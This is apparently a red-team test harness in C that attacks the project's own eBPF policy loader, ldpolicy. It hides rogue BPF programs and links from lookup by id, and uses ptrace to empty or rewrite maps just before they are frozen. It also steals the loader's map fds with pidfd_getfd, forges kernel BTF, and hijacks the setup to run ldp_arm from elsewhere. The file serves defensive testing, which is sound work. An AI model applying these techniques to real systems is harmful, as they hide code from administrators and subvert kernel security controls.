// SPDX-License-Identifier: GPL-2.0
/*
 * ldbpfdoor's doors against the BPF backend while the first `ldpolicy
 * load` sets it up: what root did to it from before it started (the
 * second red team, doors D, E, F and J). Each waits for the process named
 * ldpolicy, works on it, and reports each step as "WHAT: ok|ERRNO".
 *
 *   preload-hide SECS   an fmod_ret program on security_locked_down()
 *                       and an lsm/bpf one that answers ENOENT to an fd
 *                       by id to either or their links (as if each had
 *                       just gone), and to what comes after the id before
 *                       each, left free (as if nothing did), attached;
 *                       both held SECS seconds
 *   hooks-ptrace SECS   trace ldpolicy from its start; at its
 *                       bpf(BPF_MAP_FREEZE) of ldp_hooks, empty the map
 *                       (through its own fd, pidfd_getfd(2))
 *   rodata-ptrace SECS  the same at its freeze of the object's .rodata:
 *                       zero the dynptr slice kfuncs the guard refuses, or
 *                       change the SRv6 family it watches (a red team's
 *                       race, won every time)
 *   trace-setup SECS    trace ldpolicy from its start, and let it run
 *   steal-fds SECS      take each of ldpolicy's ldp_* map fds as they
 *                       appear (pidfd_getfd(2)): no bpf() call asked, the
 *                       fds held until it ends
 *   fake-btf OUT STRUCT MEMBER DELTA  the kernel's BTF with STRUCT's
 *                       MEMBER moved by DELTA bytes, written to OUT
 *   setup-hijack DIR SECS  watch (ldp_read) until its guards are on and it
 *                       is not armed; then stop it, trace it, take its
 *                       fds, run ldp_arm from DIR; let it go on
 *
 * The watchers never stop ldpolicy while it may be loading programs: the
 * verifier gives up (EAGAIN) on a pending signal, which would refuse the
 * setup for a reason of the door's own.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include <bpf/bpf.h>
#include <bpf/btf.h>
#include <bpf/libbpf.h>

#include "../../../userspace/ldpolicy/bpf/ldp_bpf.h"
#include "ldbpfdoor.h"
#include "ldpolicy.skel.h"
#include "rogue.skel.h"

#define ROGUE_HIDDEN	4

/* rogue_hidden's value (rogue.bpf.c) */
struct rogue_hidden {
	__u32 progs[ROGUE_HIDDEN];
	__u32 links[ROGUE_HIDDEN];
};

static const struct timespec nap = { 0, 1000000 };

static __u32 obj_id(int fd)
{
	struct bpf_prog_info info = { 0 };	/* the id comes first in each info */
	__u32 len = sizeof(info);

	return bpf_obj_get_info_by_fd(fd, &info, &len) ? 0 : info.id;
}

/* The state letter in /proc/PID/stat; 0 when there is no such process. */
static char proc_state(pid_t pid)
{
	char path[64], buf[512], *p;
	ssize_t n;
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/stat", (int)pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return 0;
	n = read(fd, buf, sizeof(buf) - 1);
	close(fd);
	if (n <= 0)
		return 0;
	buf[n] = '\0';
	p = strrchr(buf, ')');
	return p && p[1] == ' ' ? p[2] : 0;
}

/* The process whose comm is ldpolicy, waited for @secs seconds at most. */
static pid_t wait_ldpolicy(int secs)
{
	time_t end = time(NULL) + secs;

	do {
		DIR *d = opendir("/proc");
		struct dirent *e;
		pid_t pid = 0;

		while (d && !pid && (e = readdir(d))) {
			char path[300], comm[32] = "";
			int fd;

			if (e->d_name[0] < '1' || e->d_name[0] > '9')
				continue;
			snprintf(path, sizeof(path), "/proc/%s/comm", e->d_name);
			fd = open(path, O_RDONLY | O_CLOEXEC);
			if (fd < 0)
				continue;
			if (read(fd, comm, sizeof(comm) - 1) > 0 && !strcmp(comm, "ldpolicy\n"))
				pid = atoi(e->d_name);
			close(fd);
		}
		if (d)
			closedir(d);
		if (pid)
			return pid;
		nanosleep(&nap, NULL);
	} while (time(NULL) < end);
	die("no ldpolicy ran within %d seconds", secs);
}

/* Stop @pid and wait until it is; false once it has ended. */
static bool stop(pid_t pid)
{
	char s;

	if (kill(pid, SIGSTOP))
		return false;
	while ((s = proc_state(pid)) && s != 'T' && s != 't' && s != 'Z' && s != 'X')
		sched_yield();
	return s == 'T' || s == 't';
}

/*
 * Each fd of @pid's that is a BPF map named ldp_*, taken with
 * pidfd_getfd(2) through @pidfd; @fn is called with each (and closes it
 * or keeps it). Returns the errno of the first refusal, or 0.
 */
static int each_map_fd(pid_t pid, int pidfd, void (*fn)(int fd, int theirs, void *arg),
		       void *arg)
{
	char dir[64];
	DIR *d;
	struct dirent *e;
	int refused = 0;

	snprintf(dir, sizeof(dir), "/proc/%d/fd", (int)pid);
	d = opendir(dir);
	while (d && (e = readdir(d))) {
		char link[400], target[64] = "";
		struct bpf_map_info mi = { 0 };
		__u32 len = sizeof(mi);
		int theirs = atoi(e->d_name), fd;

		snprintf(link, sizeof(link), "%s/%s", dir, e->d_name);
		if (readlink(link, target, sizeof(target) - 1) <= 0 ||
		    strcmp(target, "anon_inode:bpf-map"))
			continue;
		fd = syscall(SYS_pidfd_getfd, pidfd, theirs, 0);
		if (fd < 0) {
			if (!refused)
				refused = errno;
			continue;
		}
		if (bpf_obj_get_info_by_fd(fd, &mi, &len) || strncmp(mi.name, "ldp_", 4)) {
			close(fd);
			continue;
		}
		fn(fd, theirs, arg);
	}
	if (d)
		closedir(d);
	return refused;
}

/* A program loaded and closed at once: it leaves its id free. */
static void free_an_id(void)
{
	int fd = bpf_prog_load(BPF_PROG_TYPE_SOCKET_FILTER, "throwaway", "GPL", ret0, 2, NULL);

	if (fd < 0)
		die("throwaway program: %s", strerror(errno));
	close(fd);
}

void door_preload_hide(int secs)
{
	struct rogue *r = rogue_open();
	struct rogue_hidden h = { 0 };
	struct bpf_link *l, *fl = NULL;
	__u32 zero = 0;
	int err, map;

	/*
	 * The id before the hidden programs' free: what comes after it is
	 * a hidden one, and rogue_hide says "nothing", as if it had gone.
	 */
	free_an_id();
	bpf_program__set_autoload(r->progs.rogue_fmod, true);
	bpf_program__set_autoload(r->progs.rogue_hide, true);
	err = rogue__load(r);
	say("load rogue_fmod and rogue_hide", err ? -err : 0);
	if (err)
		return;
	map = bpf_map__fd(r->maps.rogue_hidden);
	h.progs[0] = obj_id(bpf_program__fd(r->progs.rogue_fmod));
	h.progs[1] = obj_id(bpf_program__fd(r->progs.rogue_hide));
	if (bpf_map_update_elem(map, &zero, &h, 0))
		die("rogue_hidden: %s", strerror(errno));
	l = bpf_program__attach_lsm(r->progs.rogue_hide);
	say("attach rogue_hide, which hides both from an fd by id", l ? 0 : errno);
	if (l) {
		fl = bpf_program__attach_trace(r->progs.rogue_fmod);
		say("attach rogue_fmod, hidden", fl ? 0 : errno);
		h.links[0] = obj_id(bpf_link__fd(l));
		h.links[1] = fl ? obj_id(bpf_link__fd(fl)) : 0;
		if (bpf_map_update_elem(map, &zero, &h, 0))
			die("rogue_hidden: %s", strerror(errno));
		printf("hidden: programs %u and %u, links %u and %u\n", h.progs[0], h.progs[1],
		       h.links[0], h.links[1]);
		fflush(stdout);
		sleep(secs);
	}
	bpf_link__destroy(fl);
	bpf_link__destroy(l);
	rogue__destroy(r);
}

/*
 * A copy of the kernel's BTF at @out with @sname's member @mname moved by
 * @delta bytes: bound over /sys/kernel/btf/vmlinux before the first load,
 * a loader that relocates against it reads the wrong field (the third red
 * team's door).
 */
void door_fake_btf(const char *out, const char *sname, const char *mname, int delta)
{
	struct btf *btf = btf__parse("/sys/kernel/btf/vmlinux", NULL);
	int id = btf ? btf__find_by_name_kind(btf, sname, BTF_KIND_STRUCT) : -1;
	const struct btf_type *t = id > 0 ? btf__type_by_id(btf, id) : NULL;
	struct btf_member *m = t ? btf_members(t) : NULL;
	const void *raw;
	char what[128];
	__u32 size;
	FILE *f;

	if (!t)
		die("no struct %s in the kernel's BTF", sname);
	for (int i = 0; i < btf_vlen(t); i++, m++) {
		if (strcmp(btf__name_by_offset(btf, m->name_off), mname))
			continue;
		m->offset += delta * 8;	/* in the raw data: libbpf parsed in place */
		raw = btf__raw_data(btf, &size);
		f = fopen(out, "we");
		snprintf(what, sizeof(what), "struct %s's %s moved by %d bytes in a copy of the "
			 "kernel's BTF", sname, mname, delta);
		say(what, !raw || !f || fwrite(raw, 1, size, f) != size || fclose(f) ? EIO : 0);
		btf__free(btf);
		return;
	}
	die("no member %s in struct %s", mname, sname);
}

/* Seize @pid, stopped; false (said) if it cannot be traced. */
static bool seize(pid_t pid)
{
	int err = ptrace(PTRACE_SEIZE, pid, 0, PTRACE_O_TRACESYSGOOD) ||
		  ptrace(PTRACE_INTERRUPT, pid, 0, 0) ? errno : 0;

	say("trace ldpolicy from its start", err);
	return !err;
}

/*
 * Run the traced @pid to the entry of its next system call @nr whose
 * first argument is @arg0 (any when ~0); its arguments in @args. False
 * if it ended first.
 */
static bool run_to(pid_t pid, long nr, unsigned long long arg0, unsigned long long *args)
{
	for (;;) {
		struct __ptrace_syscall_info info;
		int status, sig = 0;

		if (waitpid(pid, &status, __WALL) < 0 || WIFEXITED(status) || WIFSIGNALED(status))
			return false;
		if (WSTOPSIG(status) == (SIGTRAP | 0x80)) {
			if (ptrace(PTRACE_GET_SYSCALL_INFO, pid, sizeof(info), &info) < 0)
				die("PTRACE_GET_SYSCALL_INFO: %s", strerror(errno));
			if (info.op == PTRACE_SYSCALL_INFO_ENTRY && (long)info.entry.nr == nr &&
			    (arg0 == ~0ULL || info.entry.args[0] == arg0)) {
				memcpy(args, info.entry.args, sizeof(info.entry.args));
				return true;
			}
		} else if (!(status >> 16)) {
			sig = WSTOPSIG(status);	/* a signal for it: delivered */
		}
		ptrace(PTRACE_SYSCALL, pid, 0, sig);
	}
}

/*
 * What a door does to a map at its freeze: 0 done, 1 not this one (go on
 * to the next freeze), -1 failed (said).
 */

/* ldp_hooks emptied */
static int empty_hooks(int fd, const struct bpf_map_info *mi)
{
	__u32 key, n = 0;

	while (!bpf_map_get_next_key(fd, NULL, &key) && !bpf_map_delete_elem(fd, &key))
		n++;
	printf("at its BPF_MAP_FREEZE of ldp_hooks (map %u): deleted %u entries\n", mi->id, n);
	say("empty ldp_hooks before it is frozen", n ? 0 : EPERM);
	return n ? 0 : -1;
}

/*
 * .rodata rewritten: the dynptr slice kfuncs the guard refuses zeroed,
 * so that the verifier checks its programs against those and the guard
 * refuses no slice; on a kernel where it refuses none (ours: their fix),
 * the SRv6 family it watches changed. The .rodata of the load that only
 * computes the tags (stopped before any program is loaded) is not set
 * (no fingerprint): the next is the real one.
 */
static int rewrite_rodata(int fd, const struct bpf_map_info *mi)
{
	struct ldpolicy_bpf__rodata ro;
	const __u32 zero = 0;
	int err = 0;

	if (mi->value_size != sizeof(ro) || bpf_map_lookup_elem(fd, &zero, &ro))
		err = mi->value_size != sizeof(ro) ? EINVAL : errno;
	if (!err) {
		if (!ro.ldp_fingerprint[0] && !ro.ldp_fingerprint[1])
			return 1;
		printf("at its BPF_MAP_FREEZE of %s (map %u): slice kfuncs %d and %d, SRv6 "
		       "family %u\n", mi->name, mi->id, ro.ldp_slice_kfuncs[0],
		       ro.ldp_slice_kfuncs[1], ro.ldp_seg6_family);
		if (ro.ldp_slice_kfuncs[0] || ro.ldp_slice_kfuncs[1]) {
			ro.ldp_slice_kfuncs[0] = 0;
			ro.ldp_slice_kfuncs[1] = 0;
		} else {
			ro.ldp_seg6_family = !ro.ldp_seg6_family;
		}
		if (bpf_map_update_elem(fd, &zero, &ro, BPF_ANY))
			err = errno;
	}
	say("rewrite .rodata before it is frozen", err);
	return err ? -1 : 0;
}

static bool ends_with(const char *s, const char *end)
{
	size_t n = strlen(s), m = strlen(end);

	return n >= m && !strcmp(s + n - m, end);
}

/*
 * Trace ldpolicy from its start; at its bpf(BPF_MAP_FREEZE) of the map
 * whose name ends with @name, @tamper with it through its own fd
 * (pidfd_getfd(2)), then let it go.
 */
static void at_freeze(int secs, const char *name,
		      int (*tamper)(int fd, const struct bpf_map_info *mi))
{
	pid_t pid = wait_ldpolicy(secs);
	int pidfd = syscall(SYS_pidfd_open, pid, 0);
	unsigned long long args[6];

	if (pidfd < 0)
		die("pidfd_open: %s", strerror(errno));
	if (!seize(pid))
		return;
	while (run_to(pid, SYS_bpf, BPF_MAP_FREEZE, args)) {
		long word = ptrace(PTRACE_PEEKDATA, pid, args[1], 0);
		int fd = syscall(SYS_pidfd_getfd, pidfd, (int)(word & 0xffffffff), 0);
		struct bpf_map_info mi = { 0 };
		__u32 len = sizeof(mi);
		int err;

		if (fd < 0) {
			say("at its BPF_MAP_FREEZE, take the map's fd", errno);
			break;
		}
		if (bpf_obj_get_info_by_fd(fd, &mi, &len) || !ends_with(mi.name, name)) {
			close(fd);
			ptrace(PTRACE_SYSCALL, pid, 0, 0);
			continue;
		}
		err = tamper(fd, &mi);
		close(fd);
		if (err > 0) {
			ptrace(PTRACE_SYSCALL, pid, 0, 0);
			continue;
		}
		ptrace(PTRACE_DETACH, pid, 0, 0);
		return;
	}
	printf("ldpolicy ended before it froze %s\n", name);
}

void door_hooks_ptrace(int secs)
{
	at_freeze(secs, "ldp_hooks", empty_hooks);
}

void door_rodata_ptrace(int secs)
{
	at_freeze(secs, ".rodata", rewrite_rodata);
}

/* Run the backend's ldp_arm as ldpolicy would, but from @dir, and say how it went. */
static void run_arm(const char *dir)
{
	int rd = prog_named("ldp_read", BPF_PROG_TYPE_SYSCALL);
	int am = prog_named("ldp_arm", BPF_PROG_TYPE_SYSCALL);
	struct ldp_read_ctx *r = calloc(1, sizeof(*r));
	struct ldp_arm_ctx arm = { 0 };
	LIBBPF_OPTS(bpf_test_run_opts, ro, .ctx_in = r, .ctx_size_in = LDP_READ_CTX_SIZE);
	LIBBPF_OPTS(bpf_test_run_opts, ao, .ctx_in = &arm, .ctx_size_in = sizeof(arm));
	char what[300];

	if (!r)
		die("out of memory");
	say("ldp_arm by id", am < 0 ? ENOENT : 0);
	if (rd >= 0 && !bpf_prog_test_run_opts(rd, &ro) && !ro.retval)
		memcpy(arm.refs, r->refs, sizeof(arm.refs));	/* as ldpolicy counts them */
	if (am >= 0) {
		if (chdir(dir))
			die("cannot enter %s: %s", dir, strerror(errno));
		snprintf(what, sizeof(what), "run ldp_arm from %s, not as ldpolicy", dir);
		if (bpf_prog_test_run_opts(am, &ao))
			say(what, errno);
		else
			say(what, -(int)ao.retval);
		close(am);
	}
	if (rd >= 0)
		close(rd);
	free(r);
}

void door_trace_setup(int secs)
{
	pid_t pid = wait_ldpolicy(secs);
	int status;

	if (!seize(pid))
		return;
	while (waitpid(pid, &status, __WALL) >= 0 && !WIFEXITED(status) && !WIFSIGNALED(status))
		ptrace(PTRACE_CONT, pid, 0, status >> 16 ? 0 : WSTOPSIG(status));
	printf("ldpolicy ended, traced\n");
}

struct stolen {
	__u32 ids[64];
	int n;
};

static void keep(int fd, int theirs, void *arg)
{
	struct stolen *s = arg;
	struct bpf_map_info mi = { 0 };
	__u32 len = sizeof(mi);
	int i;

	bpf_obj_get_info_by_fd(fd, &mi, &len);
	for (i = 0; i < s->n && s->ids[i] != mi.id; i++)
		;
	if (i < s->n || s->n == 64) {
		close(fd);
		return;
	}
	s->ids[s->n++] = mi.id;	/* and the fd stays open */
	printf("took ldpolicy's fd %d to map %u (%s)\n", theirs, mi.id, mi.name);
}

void door_steal_fds(int secs)
{
	pid_t pid = wait_ldpolicy(secs);
	int pidfd = syscall(SYS_pidfd_open, pid, 0), first = 0;
	struct stolen s = { .n = 0 };
	char st;

	if (pidfd < 0)
		die("pidfd_open: %s", strerror(errno));
	while ((st = proc_state(pid)) && st != 'Z' && st != 'X') {
		int refused = each_map_fd(pid, pidfd, keep, &s);

		if (refused && !first) {
			first = refused;
			say("take ldpolicy's fds (pidfd_getfd)", refused);
		}
		nanosleep(&nap, NULL);
	}
	printf("ldpolicy ended; %d of its maps taken\n", s.n);
}

/* Take any fd of @pid's (pidfd_getfd(2)): 0 if one was had, else the errno. */
static int take_any_fd(pid_t pid, int pidfd)
{
	char dir[64];
	DIR *d;
	struct dirent *e;
	int err = ENOENT;

	snprintf(dir, sizeof(dir), "/proc/%d/fd", (int)pid);
	d = opendir(dir);
	while (d && err && (e = readdir(d))) {
		int fd;

		if (e->d_name[0] < '0' || e->d_name[0] > '9')
			continue;
		fd = syscall(SYS_pidfd_getfd, pidfd, atoi(e->d_name), 0);
		if (fd >= 0) {
			close(fd);
			err = 0;
		} else {
			err = errno;
		}
	}
	if (d)
		closedir(d);
	return err;
}

/*
 * Whether the backend's ldp_read (*@rd, found by id and kept) says its
 * guards are on and its state is not armed.
 */
static unsigned long polls, reads;
static struct ldp_state last;

static bool guarding_unarmed(int *rd)
{
	struct ldp_read_ctx *r = calloc(1, sizeof(*r));
	LIBBPF_OPTS(bpf_test_run_opts, o, .ctx_in = r, .ctx_size_in = LDP_READ_CTX_SIZE);
	bool yes = false;

	if (!r)
		die("out of memory");
	polls++;
	if (*rd < 0)
		*rd = prog_named("ldp_read", BPF_PROG_TYPE_SYSCALL);
	if (*rd >= 0) {
		if (bpf_prog_test_run_opts(*rd, &o) || o.retval) {
			close(*rd);	/* not the setup's, or gone */
			*rd = -1;
		} else {
			reads++;
			last = r->state;
			yes = r->state.guarding && !r->state.armed;
		}
	}
	free(r);
	return yes;
}

void door_setup_hijack(const char *dir, int secs)
{
	pid_t pid = wait_ldpolicy(secs);
	int pidfd = syscall(SYS_pidfd_open, pid, 0), rd = -1, err;
	char st;

	if (pidfd < 0)
		die("pidfd_open: %s", strerror(errno));
	while (!guarding_unarmed(&rd)) {
		st = proc_state(pid);
		if (!st || st == 'Z' || st == 'X') {
			printf("never saw ldpolicy with its guards on and not armed "
			       "(%lu polls, %lu read; last: guarding %u, armed %u)\n", polls, reads,
			       last.guarding, last.armed);
			return;
		}
		nanosleep(&nap, NULL);
	}
	if (!stop(pid)) {
		printf("never saw ldpolicy with its guards on and not armed\n");
		return;
	}
	err = ptrace(PTRACE_SEIZE, pid, 0, 0) ? errno : 0;
	say("its guards on: trace ldpolicy", err);
	if (!err)
		ptrace(PTRACE_DETACH, pid, 0, 0);
	say("its guards on: take its fds (pidfd_getfd)", take_any_fd(pid, pidfd));
	run_arm(dir);
	kill(pid, SIGCONT);
	close(rd);
}
